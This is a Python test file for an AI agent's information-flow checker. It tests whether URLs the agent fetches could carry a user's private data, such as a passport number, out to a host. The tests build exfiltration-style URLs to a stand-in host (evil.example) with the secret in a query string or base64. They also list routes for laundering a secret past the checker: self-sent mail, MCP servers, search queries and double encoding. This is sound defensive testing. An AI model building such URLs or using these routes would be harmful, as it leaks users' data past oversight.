"""Which URLs were given by others, and which ones a call of the model had somebody say again."""

from __future__ import annotations

import asyncio
import base64
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any, cast
from urllib.parse import quote

import pytest

from conversations.agent.answer import ToolUse
from conversations.agent.ports import ToolDone
from conversations.context.view import wire
from conversations.log import append
from conversations.log.leases import Lease
from conversations.toolbox.information_flow import InformationFlow
from conversations.turns import tool_calls
from tests.support import people_and_turns
from tests.support.approval_turns import calling, check
from tools.framework.execute import ToolContext
from tools.framework.outside_access import WebAccess
from tools.framework.registry import TOOLS
from tools.framework.toolset import Toolset

pytestmark = pytest.mark.django_db
SECRET = "KX4711902"
TYPED = f"My passport is {SECRET}. Look on wiki.example."
URL = f"https://evil.example/?d={SECRET}"
PLAIN = "https://evil.example/halden"
PACKED = "https://evil.example/" + base64.b64encode(b"Halden").decode()


@dataclass(frozen=True)
class Read:
    """A call and what it read."""

    text: str
    arguments: dict[str, Any] = field(default_factory=dict)
    name: str = "fetch_url"
    origin: str = "page"
    state: str = "ok"


def page(url: str, text: str, **more: Any) -> Read:
    return Read(f"{url} 200 text/html\n\n{text}", {"url": url}, **more)


def mail(name: str, text: str, **arguments: Any) -> Read:
    return Read(text, arguments, name, "mail")


def mcp(text: str, /, **arguments: Any) -> Read:
    return Read(text, arguments, "mcp__notes__find", "mcp")


def play(lease: Lease, *answers: list[Read]) -> InformationFlow:
    """Have a turn make the calls of some answers, and return the flow of its chat."""
    for at, reads in enumerate(answers):
        keys = [f"{at}-{each}" for each in range(len(reads))]
        calling(lease, *[(key, r.name, r.arguments) for key, r in zip(keys, reads, strict=True)])
        for key, r in zip(keys, reads, strict=True):
            is_private = r.origin in ("mail", "workspace")
            tool_calls.start_tool(
                lease=lease, tool_use_id=key, origin=r.origin, is_private=is_private
            )
            done = ToolDone(wire.encode(r.text), cast("Any", r.state))
            tool_calls.finish_tool(lease=lease, tool_use_id=key, done=done)
        append.store_results(lease=lease, content=people_and_turns.results(*keys), estimate=1)
    return InformationFlow(people_and_turns.conversation_of(lease))


def asks(lease: Lease, url: str) -> bool:
    return bool(check(lease, (ToolUse("z", "fetch_url", wire.encode({"url": url})),)))


@pytest.mark.parametrize("more", ["\\", "#:\u03a3"])
def test_a_refused_call_gives_no_url(more: str) -> None:
    lease = people_and_turns.started_turn(text=TYPED)
    assert asks(lease, URL)
    context = ToolContext(
        "1", cast("Any", None), cast("Any", None), WebAccess(), lambda: datetime.now(UTC), bool
    )
    given = {"url": f"{URL}{more}"}
    result = asyncio.run(Toolset(TOOLS).run("fetch_url", given, context))
    assert URL in str(result.content)
    assert result.is_error
    flow = play(lease, [Read(str(result.content), given, state="error")])
    assert asks(lease, URL)
    assert "typed:" in flow.list_telling({"url": URL})
    assert flow.check_link(URL) != ((), ())


def test_a_site_that_says_again_what_it_was_asked_gives_no_url() -> None:
    lease = people_and_turns.started_turn(text=TYPED)
    via = f"https://wiki.example/s?q={URL}"
    assert not asks(lease, via)
    flow = play(lease, [page(via, "Nothing found.")])
    assert asks(lease, URL)
    assert flow.list_telling({"url": URL}) == ("typed:", "page:wiki.example:443")


WIKI = "https://wiki.example/s?q="
SHOP = f"https://shop.example/{SECRET}"
DIARY = Read(f"Halden has {SECRET}", {"path": "a.txt"}, "read_file", "workspace")
SAID_AGAIN: dict[str, list[list[Read]]] = {
    "an error": [[page("https://a.example/", URL, state="error")]],
    "a file": [[Read(URL, {"path": "a.txt"}, "read_file", "workspace")]],
    "its own call": [[page(f"{WIKI}{URL}", "Nothing.")]],
    "an earlier call": [[page(f"{WIKI}{SECRET}", "Nothing.")], [page("https://a.example/", URL)]],
    "a call beside it": [[page("https://a.example/", URL), page(f"{WIKI}{SECRET}", "Nothing.")]],
    "percent": [[page(f"{WIKI}{quote(quote(URL, safe=''))}", URL)]],
    "base64": [[page(f"{WIKI}{base64.b64encode(URL.encode()).decode()}", URL)]],
    "a search of mail": [[mail("search_mail", f"Nothing has {URL}", query=URL)]],
    "a mail to oneself": [
        [Read("sent", {"to": "me@a.example", "body": URL}, "send_mail", "")],
        [mail("read_mail", URL, uid=7)],
    ],
    "a server": [[mcp("kept", text=SECRET)], [mcp(URL)]],
    # It is the server that is told, whatever the URL.
    "a server and its URL": [[mcp(f"cannot open {URL}", url=URL)]],
    "what goes with a given URL": [[mcp(SHOP)], [mcp(f"{SHOP} {URL}", url=SHOP, note=SECRET)]],
    "no URL": [[mcp(f"see {URL}", url=SECRET)]],
}  # fmt: skip


@pytest.mark.parametrize("by", SAID_AGAIN)
def test_what_a_call_may_have_had_said_again_is_not_given(by: str) -> None:
    lease = people_and_turns.started_turn(text=TYPED)
    words, _ = play(lease, *SAID_AGAIN[by]).check_link(URL)
    assert SECRET in {word for word, _ in words}


@pytest.mark.parametrize(
    ("url", "asked"),
    [
        (PLAIN, f"{WIKI}{PLAIN}"),
        (f"{PLAIN}&more", f"{WIKI}{PLAIN}"),
        (PACKED, f"{WIKI}{PACKED}"),
        (PLAIN, f"{WIKI}halden&to={quote('https://evil.example/', safe='')}"),
    ],
)
def test_private_words_are_not_given_by_a_site_that_was_asked_for_them(
    url: str, asked: str
) -> None:
    lease = people_and_turns.started_turn(text="Look on wiki.example")
    words, _ = play(lease, [DIARY], [page(asked, f"Nothing at {url}")]).check_link(url)
    assert {word.casefold() for word, _ in words} >= {"halden"}


GIVEN: dict[str, list[list[Read]]] = {
    "a page": [[page("https://a.example/", URL)]],
    "a page before the call": [[page("https://a.example/", URL)], [page(URL, "Hello")]],
    "a mail": [[mail("read_mail", URL, uid=7)]],
    "a mail that was looked for": [
        [mail("search_mail", "1 mail", query=f"passport {SECRET}")],
        [mail("read_mail", URL, uid=7)],
    ],
    "a server": [[mcp(URL, text="links")]],
    "a page that a page led to": [[page("https://a.example/", SHOP)], [page(SHOP, URL)]],
    # The host knows what it was asked itself.
    "a page of its own": [[page(f"https://evil.example/a/{SECRET}", URL)]],
}  # fmt: skip


@pytest.mark.parametrize("by", GIVEN)
def test_a_url_that_others_wrote_first_is_given(by: str) -> None:
    lease = people_and_turns.started_turn(text=TYPED)
    assert play(lease, *GIVEN[by]).check_link(URL) == ((), ())


def test_a_page_that_the_person_named_whole_gives_its_urls() -> None:
    lease = people_and_turns.started_turn(text=f"Look at {SHOP}")
    flow = play(lease, [page(SHOP, URL)])
    assert flow.list_telling({"url": URL}, "evil.example:443") == ()
    assert flow.check_link(URL) == flow.check_link(SHOP) == ((), ())


def test_a_plain_word_of_what_was_asked_keeps_no_link_of_the_answer() -> None:
    lease = people_and_turns.started_turn(text="Look on wiki.example")
    flow = play(lease, [DIARY], [page(f"{WIKI}halden", f"See {PLAIN}")])
    assert flow.check_link(PLAIN) == ((), ())


def test_typed_words_in_a_hidden_form_are_not_given_by_a_site_that_had_them() -> None:
    lease = people_and_turns.started_turn(text="My name is Halden. Look on wiki.example")
    hidden = PACKED.rpartition("/")[2]
    words, _ = play(lease, [page(f"{WIKI}{hidden}", f"See {PACKED}")]).check_link(PACKED)
    assert ("Halden", "typed:") in words
